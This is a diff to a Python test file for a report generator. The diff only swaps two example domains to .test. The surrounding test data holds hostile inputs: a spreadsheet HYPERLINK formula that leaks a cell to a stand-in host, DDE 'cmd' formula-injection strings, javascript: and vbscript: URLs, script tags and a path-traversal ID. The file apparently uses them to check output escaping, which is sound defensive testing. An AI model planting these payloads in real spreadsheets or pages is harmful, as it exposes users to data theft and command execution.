@@ -37,7 +37,7 @@ HOSTILE_TEXTS = [
 FORMULAS = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 HOSTILE_URLS = [f"javascript:{PWN}", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)",
-                "vbscript:msgbox(1)", "https://ok.example.kz/doc.pdf"]
+                "vbscript:msgbox(1)", "https://ok.example.test/doc.pdf"]
 
 
 def hostile_input() -> RunReportInput:
@@ -45,7 +45,7 @@ def hostile_input() -> RunReportInput:
     inst = Institution("evil_univ", "university", f"javascript:{PWN}", name_kk=HOSTILE_TEXTS[0],
                        name_ru=FORMULAS[0], name_en=HOSTILE_TEXTS[1], region=f"<script>{PWN}</script>",
                        city=HOSTILE_TEXTS[2], bin="<b>1</b>")
-    odd_id = Institution("../../x<script>", "college", "https://odd.example.kz/", name_ru=FORMULAS[1],
+    odd_id = Institution("../../x<script>", "college", "https://odd.example.test/", name_ru=FORMULAS[1],
                          region="Astana")
     gaps: list[GapRow] = []
     payloads = HOSTILE_TEXTS + FORMULAS
